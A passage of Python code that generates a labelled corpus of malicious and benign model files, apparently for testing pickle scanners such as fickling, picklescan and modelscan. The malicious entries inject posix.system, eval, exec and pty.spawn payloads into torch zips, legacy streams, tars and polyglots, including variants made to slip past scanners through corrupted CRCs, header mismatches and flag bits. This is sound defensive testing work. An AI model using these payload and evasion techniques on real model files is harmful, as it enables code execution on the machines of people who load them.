    injected = _rezip(real, {"/data.pkl": _inject(data_pkl, system2, pop=False)})
    c.add("torch_zip_inject_first.pt", injected,
          "torch.save zip whose data.pkl calls posix.system before the state dict (no POP)", (MS, FK, PS), "torch_zip",
          (_MS_UTILS + " PyTorchTestModel.generate_unsafe_pytorch_file", _MS_TEST + " unsafe_zip_pytorch.pt",
           _PS_TEST + " test_scan_huggingface_model (archive/data.pkl)"))
    c.add("torch_zip_fickling_insertion.pt",
          _rezip(real, {"/data.pkl": _inject(data_pkl, body(Call(Ref("builtins", "exec"), (p.py,)), 2))}),
          "fickling PyTorchModelWrapper injection='insertion': exec + POP first in data.pkl", (FK,), "torch_zip",
          (_FK_TORCH + " test_injection_insertion", _FK_TORCH_SRC))

    class _Combination:  # fickling's BaseInjection: the whole model pickles as eval(payload)
        def __reduce__(self) -> tuple:
            return (eval, (p.py,))

    c.add("torch_zip_fickling_combination.pt", _torch_save(_Combination()),
          "fickling injection='combination': torch.save of an object that reduces to builtins.eval", (FK, PS, MS), "torch_zip",
          (_FK_TORCH + " test_injection_combination", _FK_TORCH_SRC, _PS_TEST + " ykilcher/totally-harmless-model mock"))
    c.add("torch_zip_run_last.pt", _rezip(real, {"/data.pkl": _inject(data_pkl, system2, first=False)}),
          "data.pkl builds the state dict, then calls posix.system and POPs it", (FK,), "torch_zip", (_FK_PICKLE + " test_insert_run_last",))
    c.add("torch_zip_protocol4.pt", _rezip(real, {"/data.pkl": dumps({"w": p.system()}, 4)}),
          "torch zip whose data.pkl is protocol 4 (STACK_GLOBAL posix.system)", (PS, MS), "torch_zip",
          (_PS_INIT + " malicious1 p4 in zip", _MS_TEST + " test_scan_zip"))
    c.add("torch_zip_extra_pkl_record.pt",
          _rezip(real, add=[("archive/extra/optimizer.pkl", dumps(p.system(), 2))]),
          "a clean torch zip plus an extra record optimizer.pkl holding a payload (run by whatever unpickles that record)",
          (FK, PS, MS), "torch_zip", (_FK_SCAN + " TestScanZipArchive", _PS_TEST + " test_scan_zip_bytes", _MS_TEST + " test_scan_zip"))
    c.add("torch_zip_crc_corrupt.pt", _patch_central(injected, "/data.pkl", _bad_crc),
          "payload torch zip with data.pkl's CRC-32 wrong in the central directory: zipfile refuses, torch reads it",
          (FK, PS), "torch_zip", (_PS_INIT + " malicious1_crc.zip", _FK_CVE + " CVE-2025-10156 test_corrupted_zip_still_scanned"))
    c.add("torch_zip_local_name_mismatch.pt", _patch_central(injected, "/data.pkl", _local_name_datap, local=True),
          "payload torch zip whose local header names data.pkl 'datap.kl': zipfile refuses, torch reads it", (PS,),
          "torch_zip", (_PS_TEST + " malicious1_central_directory.zip (GHSA-7q5r-7gvp-wc82)",))
    for bit, what in ((0x1, "encrypted"), (0x20, "patched data"), (0x40, "strong encryption")):
        c.add(f"torch_zip_flag_{bit:#04x}.pt", _patch_central(injected, "/data.pkl", _set_flag(bit)),
              f"payload torch zip with the '{what}' flag bit {bit:#x} set on data.pkl: zipfile refuses; torch 2.15 refuses "
              "too, older torch read it (GHSA-w8jq-xcqf-f792)", (PS,), "torch_zip", (_PS_TEST + f" malicious1_{bit:#x}.zip",))
    c.add("pytorch_model_eval.bin", _zip([("archive/data.pkl", dumps(p.eval(), 2)), ("archive/version", b"3\n")]),
          "a minimal torch-style zip named pytorch_model.bin whose archive/data.pkl is builtins.eval", (MS, PS), "torch_zip",
          (_PS_TEST + " MockHTTPSConnection totally-harmless-model", _MS_TEST + " test_scan_huggingface_model"))


def _legacy_streams(c: _Corpus, p: _Payload) -> None:
    """Payloads in each pickle of a legacy (pre-1.6) torch.save stream; torch.load reads them all in order."""
    legacy = _torch_save(_state_dict(), legacy=True)
    pickles, rest = _split_pickles(legacy, 5)  # magic number, protocol, sys info, object, storage keys
    system2 = body(p.system(), 2)
    for index, part, peers, sources in (
        (0, "magic-number", (PS,), (_PS_TEST + " pytorch_magic_bypass.pt",)),
        (1, "protocol-version", (PS,), (_PS_TEST + " pytorch_magic_bypass.pt (variant)",)),
        (2, "sys-info", (PS,), (_PS_TEST + " pytorch_magic_bypass.pt (variant)",)),
        (3, "object", (MS, PS), (_MS_UTILS + " generate_unsafe_pytorch_file(zipfile=False)", _PS_TEST + " test_scan_pytorch")),
        (4, "storage-keys", (PS,), (_PS_TEST + " pytorch_magic_bypass.pt (variant)",)),
    ):
        parts = list(pickles)
        parts[index] = _inject(parts[index], system2)
        c.add(f"legacy_payload_in_{part.replace('-', '_')}.pt", b"".join(parts) + rest,
              f"legacy torch stream whose {part} pickle calls posix.system first and still loads", peers, "torch_legacy", sources)


def _tars(c: _Corpus, p: _Payload) -> None:
    """Pickles in tar archives; the pre-0.4 torch layout is read by torch.load (weights_only=False)."""
    storages = dumps(0, 2) + dumps([], 2)
    tensors = dumps(0, 2)
    obj = pickle.dumps({"step": 3, "name": "tar checkpoint"}, protocol=2)
    sys_info = pickle.dumps({"protocol_version": 1001, "little_endian": True, "type_sizes": {"short": 2, "int": 4, "long": 4}}, protocol=2)
    system2 = body(p.system(), 2)

    def legacy_tar(storages: bytes = storages, obj: bytes = obj) -> bytes:
        return _tar([("sys_info", sys_info), ("pickle", obj), ("storages", storages), ("tensors", tensors)])

    c.add("tar_legacy_payload_in_pickle.pt", legacy_tar(obj=_inject(obj, system2)),
          "pre-0.4 torch tar (sys_info/pickle/storages/tensors) whose 'pickle' member calls posix.system", (FK,), "tar",
          (_FK_ARCHIVE + " test_legacy_pytorch_tar_with_malicious_pickle", _FK_POLY + " create_pytorch_legacy_tar"))
    c.add("tar_legacy_payload_in_storages.pt", legacy_tar(storages=_inject(dumps(0, 2), system2) + dumps([], 2)),
          "pre-0.4 torch tar whose 'storages' member (the first one torch unpickles) calls posix.system", (FK,), "tar",
          (_FK_ARCHIVE + " test_legacy_pytorch_tar_with_malicious_pickle (variant)",))
    c.add("tar_model_pkl.tar", _tar([("model.pkl", dumps(p.system(), 4))]), "a plain tar holding a payload pickle",
          (FK,), "tar", (_FK_ARCHIVE + " test_malicious_pickle_in_tar / test_all_protocols_in_tar",))
    c.add("tar_gz_payload_pkl.tar.gz", _gzip_tar([("payload.pkl", dumps(Call(Ref("pty", "spawn"), (p.argv,)), 4))]),
          "a gzipped tar holding a payload pickle", (FK,), "tar", (_FK_ARCHIVE + " test_malicious_pickle_in_tar_gz",))


def _polyglots(c: _Corpus, p: _Payload) -> None:
    payload = dumps(p.system(), 2)
    c.add("polyglot_pickle_then_zip.pt", payload + _torch_save(_state_dict()),
          "a payload pickle followed by a clean torch zip: zip readers see the archive, torch.load (not PK at byte 0) "
          "reads the pickle as a legacy magic number", (FK,), "polyglot",
          (_FK_POLYGLOT_SRC + " create_zip_pickle_polyglot", _FK_POLY))


def _torchscripts(c: _Corpus, p: _Payload) -> None:
    c.add("torchscript_setstate_from_file.pt", _torchscript("load_time", p.path),
          "TorchScript module whose scripted __setstate__ calls torch.from_file(path, shared=True): torch.jit.load "
          "creates the file (no pickle global involved)", (), "torchscript")
    c.add("torchscript_forward_from_file.pt", _torchscript("call_time", p.path),
          "TorchScript module whose forward calls torch.from_file(path, shared=True): calling the loaded model "
          "creates the file", (), "torchscript")


def _benign(c: _Corpus) -> None:
    import argparse
    import collections
    import datetime

    import numpy as np
    import torch

    def add(name: str, data: bytes, technique: str, container: str, peers: tuple[str, ...] = (), sources: tuple[str, ...] = ()) -> None:
        c.add(name, data, "benign: " + technique, peers, container, sources, malicious=False)

    add("benign_state_dict.pt", _torch_save(_state_dict()), "torch.save of a state dict", "torch_zip",
        (MS,), (_MS_TEST + " safe_zip_pytorch.pt",))
    add("benign_checkpoint.pt", _torch_save(_checkpoint()), "training checkpoint: model + SGD momentum state, epoch, loss",
        "torch_zip")
    add("benign_state_dict_legacy.pt", _torch_save(_state_dict(), legacy=True),
        "state dict with _use_new_zipfile_serialization=False", "torch_legacy", (MS,), (_MS_TEST + " safe_old_format_pytorch.pt",))
    linear = torch.nn.Linear(2, 2)
    with torch.no_grad():
        linear.weight.copy_(torch.tensor([[1.0, 2.0], [3.0, 4.0]]))
        linear.bias.zero_()
    add("benign_full_model.pt", _torch_save(linear),
        "a whole nn.Linear pickled: only torch's own classes (refused by weights_only, runs no code from the file)",
        "torch_zip")
    add("benign_dict_p0.pkl", pickle.dumps({"epochs": 3, "name": "run-7", "sizes": [1, 2, 3]}, protocol=0),
        "protocol-0 (text) pickle of a dict of ints and strings", "pickle")
    for proto in (0, 3, 4):
        add(f"benign_list_p{proto}.pkl", pickle.dumps(["a", "b", "c"], protocol=proto), f"a list of strings, protocol {proto}",
            "pickle", (MS, PS), (_PS_INIT + f" benign0_v{proto}", _MS_TEST + f" benign0_v{proto}"))
    add("benign_numpy_array.pkl", pickle.dumps(np.arange(6, dtype=np.float32).reshape(2, 3), protocol=2),
        "numpy array pickle (numpy._core.multiarray._reconstruct, numpy.dtype)", "pickle")
    old_numpy = pickle.dumps(np.arange(4, dtype=np.int64), protocol=2).replace(b"numpy._core.multiarray", b"numpy.core.multiarray")
    add("benign_numpy_array_numpy1.pkl", old_numpy, "numpy array pickle as numpy 1.x names it (numpy.core.multiarray)", "pickle")
    add("benign_ordered_dict.pkl", pickle.dumps(collections.OrderedDict([("a", 1), ("b", [1.5, 2.5])]), protocol=4),
        "collections.OrderedDict", "pickle")
    config = argparse.Namespace(lr=0.01, name="run", started=datetime.datetime(2024, 1, 2, 3, 4, 5), layers=(2, 3))
    add("benign_config_namespace.pkl", pickle.dumps(config, protocol=4), "argparse.Namespace config with a datetime", "pickle")
    add("benign_builtins_set_range.pkl", pickle.dumps({"ids": {1, 2, 3}, "span": range(4), "cut": slice(1, 3)}, protocol=2),
        "builtins set/range/slice (fickling documents these as its false positives)", "pickle", (FK,), (_FK_BENIGN,))
    add("benign_model.safetensors", _safetensors({"weight": ("F32", [2, 2], struct.pack("<4f", 1, 2, 3, 4))}),
        "safetensors file (JSON header + raw floats)", "safetensors")
    add("benign_torchscript.pt", _torchscript("tiny"), "TorchScript archive of a tiny Linear + ReLU module", "torchscript",
        (FK,), (_FK_POLY + " TorchScript v1.4",))

    def npy(array: Any) -> bytes:
        buf = io.BytesIO()
        np.save(buf, array, allow_pickle=True)
        return buf.getvalue()

    add("benign_int_array.npy", npy(np.arange(6).reshape(2, 3)), ".npy int array (no pickle)", "numpy",
        (MS, PS), (_PS_INIT + " int_array.npy", _MS_TEST + " safe_numpy.npy"))
    objects: Any = np.empty((2, 2), dtype=object)
    objects[:] = [(1, 2), (3, 4)]
    add("benign_object_array.npy", npy(objects), ".npy object array of tuples (a pickle of numpy globals only)", "numpy",
        (MS, PS), (_PS_TEST + " object_array.npy",))
    add("benign_int_arrays.npz", _zip([("a.npy", npy(np.arange(3))), ("b.npy", npy(np.arange(3, 6)))], zipfile.ZIP_DEFLATED),
        ".npz of int arrays", "zip_other", (PS,), (_PS_INIT + " int_arrays.npz",))
    add("benign_zip_data_pkl.zip", _zip([("data.pkl", pickle.dumps({"a": 0, "b": 1, "c": 2}, protocol=4))]),
        "zip holding a dict pickle", "zip_other", (PS,), (_PS_TEST + " mock zip/benign",))
    storages = dumps(0, 2) + dumps([], 2)
    add("benign_tar_legacy.pt", _tar([("sys_info", pickle.dumps({"little_endian": True}, protocol=2)),
                                       ("pickle", pickle.dumps({"step": 3}, protocol=2)), ("storages", storages),
                                       ("tensors", dumps(0, 2))]),
        "pre-0.4 torch tar layout holding a plain dict", "tar", (FK,), (_FK_POLY + " create_pytorch_legacy_tar",))
    add("benign_png_named.pt", b"\x89PNG\r\n\x1a\n", "a PNG signature named .pt (not a model)", "other",
        (MS, PS), (_PS_INIT + " bad_pytorch.pt", _MS_TEST + " bad_pytorch.pt"))
    add("benign_not_a_pickle.bin", b"cmod\n\xf8\n", "starts like a GLOBAL opcode, then invalid UTF-8 (not a pickle)",
        "other", (PS,), (_PS_INIT + " not_a_pickle.bin",))
